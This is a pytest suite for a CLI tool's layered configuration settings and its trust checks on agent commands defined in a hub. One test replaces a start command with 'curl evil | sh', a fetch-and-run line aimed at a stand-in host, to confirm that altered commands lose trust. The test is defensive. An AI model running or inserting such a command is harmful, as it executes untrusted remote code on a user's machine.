"""Settings and their layers, and the commands of a hub that are trusted."""

from __future__ import annotations

import contextlib
from typing import TYPE_CHECKING

import pytest

from bd.cli.app import open_clone
from bd.core.settings import EARLY_KEYS
from bd.core.times import duration_s
from bd.store.hub_location import locate
from bd.store.local.lock import CloneLock
from tests.cli.test_globals import in_a_terminal, visible
from tests.running import Clone
from tests.runtime import RUNTIME
from tests.truth import commit_file, git, tip, tip_file

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.one_in(6)


def test_the_strongest_layer_wins_and_is_named(board: Clone) -> None:
    def now(env: dict[str, str] | None = None) -> tuple[int, str]:
        entry = board.here("config", "show", "--json", env=env).json["max_attempts"]
        return entry["value"], entry["source"]

    assert now() == (3, "default")
    board.here("config", "set", "max_attempts", "4")
    assert now() == (4, "hub")
    board.here("config", "set", "max_attempts", "5", "--user")
    assert now() == (5, "user")
    board.here("config", "set", "max_attempts", "6", "--clone")
    assert now() == (6, "clone")
    assert now({"BD_MAX_ATTEMPTS": "7"}) == (7, "environment")
    for layer, left in (("clone", 5), ("user", 4), ("hub", 3)):
        board.here("config", "set", "max_attempts", "", f"--{layer}")
        assert now()[0] == left


def test_hub_settings_are_a_commit_and_others_are_not(board: Clone, tmp_path: Path) -> None:
    before = tip(board.path)
    board.here("config", "set", "claim_ttl", "30m", "--clone")
    board.here("config", "set", "claim_ttl", "40m", "--user")
    assert tip(board.path) == before
    assert "30m" in (board.path / ".git" / "bd" / "config.yaml").read_text()
    assert "40m" in (tmp_path / "home" / "config" / "bd" / "config.yaml").read_text()
    board.here("config", "set", "claim_ttl", "20m")
    assert git(board.path, "log", "-1", "--format=%s", "--name-only").split("\n") == [
        "config: claim_ttl by Test Person",
        "",
        ".beads/config.yaml",
    ]
    assert b"20m" in (tip_file(board.path, ".beads/config.yaml") or b"")


def test_config_get(board: Clone) -> None:
    assert board.here("config", "get", "prefix").out == "hub\n"
    assert board.here("config", "get", "claim_ttl").out == "15m\n"
    assert board.here("config", "get", "claim_ttl", "--json").json["value"] == 900
    assert board.here("config", "get", "issue_prefix", "--json").json == {
        "key": "issue_prefix",
        "value": "hub",
        "schema_version": 1,
    }
    assert board.here("config", "get", "nothing.like.it", "--json").json["value"] == ""
    assert board.here("config", "get", "branch").out == "main\n"
    assert board.here("config", "get", "remote").out == "\n"


def test_the_prefix_and_types_of_a_hub(board: Clone) -> None:
    board.here("config", "set", "issue_prefix", "new")
    assert board.here("q", "Something").out.startswith("new-")
    assert "is not a bead type" in board.here("create", "X", "-t", "molecule2", code=2).err
    board.here("config", "set", "types.custom", "molecule2,convoy")
    assert board.here("create", "X", "-t", "convoy", "--json").json["issue_type"] == "convoy"
    board.here("config", "set", "statuses", "on-ice")
    board.here("update", "hub-bug", "--status", "on_ice", check=False)


def test_a_setting_that_cannot_be_read_is_named(board: Clone) -> None:
    refused = board.here("create", "Never made", "--json", env={"BD_MAX_ATTEMPTS": "many"}, code=2)
    assert "max_attempts" in refused.err
    assert "environment" in refused.err
    (board.path / ".git" / "bd" / "config.yaml").write_text("prefix: [\n")
    assert "config.yaml" in board.here("list", code=2).err


def test_config_show_lists_everything(board: Clone) -> None:
    shown = board.here("config", "show")
    assert shown.lines[0].split() == ["setting", "value", "from", "what", "for"]
    assert "  15m  " in shown.out
    assert board.here("config", "list", "--json").json == board.here("config", "show", "--json").json


@pytest.mark.parametrize("value", ["soon", "-1", "1y"])
def test_a_duration_is_checked_before_it_is_kept(board: Clone, value: str) -> None:
    before = tip(board.path)
    assert "is not a duration" in board.here("config", "set", "claim_ttl", "--", value, code=2).err
    assert tip(board.path) == before


def test_settings_below_a_key_are_nested_typed_and_listed_with_their_layer(board: Clone) -> None:
    def listed(key: str) -> tuple[object, str]:
        entry = board.here("config", "list", "--json").json.get(key, {"value": None, "source": ""})
        return entry["value"], entry["source"]

    board.here("config", "set", "defaults.expected.task", "5m")
    board.here("config", "set", "stealing.pending", "8")
    board.here("config", "set", "recover", "no")
    text = (tip_file(board.path, ".beads/config.yaml") or b"").decode()
    assert "defaults:\n  expected:\n    task:" in text
    assert "stealing:\n  pending: 8\n" in text
    assert "recover: false\n" in text
    assert git(board.path, "log", "-2", "--format=%s").split("\n")[1] == "config-set: stealing.pending by Test Person"
    assert listed("defaults.expected.task") == ("5m", "hub")
    assert listed("stealing.pending") == (8, "hub")
    assert listed("stealing.idle") == ("2m", "default")
    board.here("config", "set", "defaults.expected.task", "9m", "--clone")
    assert listed("defaults.expected.task") == ("9m", "clone")
    assert board.here("config", "get", "defaults.expected.task").out == "9m\n"
    board.here("config", "unset", "defaults.expected.task", "--clone")
    assert listed("defaults.expected.task") == ("5m", "hub")
    board.here("config", "unset", "defaults")
    assert listed("defaults.expected.task") == (None, "")
    board.here("config", "set", "friction.rate", "0.5")
    assert (listed("friction"), listed("friction.rate")) == ((True, "hub"), (0.5, "hub"))


def test_commands_of_a_hub_are_set_by_name(board: Clone) -> None:
    board.here("config", "set", "validators.tests", "make test")
    board.here("config", "set", "notify.chat", "./tell", "--clone")
    assert [entry["name"] for entry in board.here("trust", "--json").json] == ["config.validators.tests"]
    assert board.here("config", "get", "notify.chat").out == "./tell\n"
    assert "notify has settings below it" in board.here("config", "set", "notify", "./other", "--clone", code=2).err
    board.here("config", "set", "notify", "./all")
    assert "notify is one text here" in board.here("config", "set", "notify.chat", "./tell", code=2).err


def test_unknown_settings_are_refused_and_can_be_taken_out(board: Clone) -> None:
    before = tip(board.path)
    assert "did you mean validators.tests?" in board.here("config", "set", "vlidators.tests", "x", code=2).err
    assert "set for the whole hub" in board.here("config", "set", "stealing.pending", "3", "--clone", code=2).err
    assert tip(board.path) == before
    text = (board.path / ".beads" / "config.yaml").read_text(encoding="utf-8")
    stray = "defaults.expected.task: 5m\nclam_ttl: 5m\ndefaults:\n  expcted:\n    task: 5m\n"
    commit_file(board.path, ".beads/config.yaml", text + stray)
    for key in ("defaults.expected.task", "clam_ttl", "defaults.expcted"):
        assert f"unknown key {key}" in (told := board.here("list").err) or f"the key {key}" in told
        board.here("config", "unset", key)
    assert board.here("list").err == ""
    assert (tip_file(board.path, ".beads/config.yaml") or b"").decode() == text


def test_a_setting_below_defaults_is_checked_as_the_setting_itself(board: Clone) -> None:
    before = tip(board.path)
    assert "matter of each machine" in board.here("config", "set", "defaults.url_allow", "10.0.0.0/8", code=2).err
    assert "matter of each machine" in board.here("config", "set", "defaults.agent", "coder", code=2).err
    assert "set for the whole hub" in board.here("config", "set", "defaults.require_signed", "yes", "--clone", code=2).err
    assert "can't be an id prefix" in board.here("config", "set", "defaults.prefix", "a/b", code=2).err
    for key in ("max_attempts", "stall_factor"):
        for above in ("", "defaults."):
            assert "must be more than 0" in board.here("config", "set", f"{above}{key}", "0", code=2).err
    assert tip(board.path) == before


def test_figures_do_not_turn_friction_on_that_was_turned_off(board: Clone) -> None:
    board.here("config", "set", "friction", "false")
    assert "friction is false here" in board.here("config", "set", "friction.window", "3d", code=2).err
    board.here("config", "set", "friction", "true")
    board.here("config", "set", "friction.window", "3d")
    assert board.here("config", "get", "friction.window").out == "3d\n"


def test_a_narrow_terminal_has_room_for_names_values_and_sources(board: Clone) -> None:
    board.here("config", "set", "defaults.retry.types.research.backoff_multiplier", "3")
    board.here("config", "set", "validators.long", "x" * 200)
    for columns, has_words in ((80, False), (200, True)):
        lines = visible(in_a_terminal("config", "list", cwd=board.path, columns=columns))
        assert ("what for" in lines[0]) is has_words
        assert all(len(line) <= columns for line in lines)
        assert any(line.split()[:3] == ["claim_ttl", "15m", "default"] for line in lines)


# --- trust --------------------------------------------------------------------------------

AGENT = """\
name: builder
pool:
  check: bd ready --json | jq length
  start: ./start-agent
"""


def test_a_hubs_commands_are_shown_and_pinned_by_their_text(board: Clone) -> None:
    commit_file(board.path, ".beads/agents/builder.yaml", AGENT)
    asked = board.here("trust", "--json").json
    assert [(entry["name"], entry["command"], entry["trusted"]) for entry in asked] == [
        ("agents/builder.pool.check", "bd ready --json | jq length", False),
        ("agents/builder.pool.start", "./start-agent", False),
    ]
    text = board.here("trust")
    assert "NOT trusted  agents/builder.pool.check" in text.out
    assert "bd trust --yes" in text.err
    board.here("trust", "--yes")
    assert all(entry["trusted"] for entry in board.here("trust", "--json").json)
    commit_file(board.path, ".beads/agents/builder.yaml", AGENT.replace("./start-agent", "curl evil | sh"))
    assert [entry["trusted"] for entry in board.here("trust", "--json").json] == [True, False], "a changed text is a new one"
    board.here("trust", "--revoke")
    assert not any(entry["trusted"] for entry in board.here("trust", "--json").json)


def test_trust_is_the_clones_own(board: Clone, tmp_path: Path) -> None:
    commit_file(board.path, ".beads/agents/builder.yaml", AGENT)
    board.here("trust", "--yes")
    before = tip(board.path)
    git(tmp_path, "clone", "--quiet", str(board.path), "copy")
    assert not any(entry["trusted"] for entry in Clone(tmp_path / "copy").here("trust", "--json").json)
    assert tip(board.path) == before


# --- what is shown is what holds --------------------------------------------------------------

AN_OTHER = {"fresh_time": "7s", "lock_timeout": "11s", "git_timeout": "13s"}


@pytest.mark.parametrize("layer", ["hub", "user", "clone", "environment"])
@pytest.mark.parametrize("key", EARLY_KEYS)
def test_what_holds_before_the_hub_is_read_is_what_is_shown(
    key: str, layer: str, board: Clone, monkeypatch: pytest.MonkeyPatch
) -> None:
    if layer == "environment":
        monkeypatch.setenv(f"BD_{key.upper()}", AN_OTHER[key])
    else:
        board.here("config", "set", key, AN_OTHER[key], f"--{layer}")
    shown = board.here("config", "list", "--json").json[key]
    assert shown == {"value": duration_s(AN_OTHER[key]), "source": layer}
    with contextlib.closing(open_clone(locate(str(board.path)), RUNTIME)) as hub:
        assert getattr(hub.settings(), key) == shown["value"]
    assert board.here("config", "get", key).out.strip() == AN_OTHER[key]


def test_a_hubs_time_for_the_lock_is_in_force_and_ends_with_its_setting(board: Clone) -> None:
    board.here("config", "set", "lock_timeout", "0s")
    with CloneLock(str(board.path / ".git" / "bd" / "lock"), 60, RUNTIME):
        assert "for 0 s" in board.here("create", "Not now", "--json", code=6).json["error"]
    board.here("config", "unset", "lock_timeout")
    with contextlib.closing(open_clone(locate(str(board.path)), RUNTIME)) as hub:
        assert hub.settings().lock_timeout == 60


@pytest.mark.parametrize(
    ("how", "source"),
    [
        ({"BD_AGENT": "coder"}, "environment"),
        ({"BD_ACTOR": "coder"}, "environment"),
        ({"BEADS_ACTOR": "coder"}, "environment"),
        ({}, "flag"),
    ],
)
def test_the_agent_that_is_shown_is_the_one_that_acts(how: dict[str, str], source: str, board: Clone) -> None:
    flag = [] if how else ["--agent", "coder"]
    assert board.here(*flag, "config", "show", "--json", env=how).json["agent"] == {"value": "coder", "source": source}
    assert board.here(*flag, "whoami", "--json", env=how).json["agent"] == "coder"


def test_a_hub_names_nobodys_agent(board: Clone) -> None:
    refused = board.here("config", "set", "agent", "coder", code=2)
    assert "--clone" in refused.err
    commit_file(board.path, ".beads/config.yaml", "format: 2\nprefix: hub\nagent: mallory\n")
    assert board.here("config", "show", "--json").json["agent"] == {"value": "", "source": "default"}
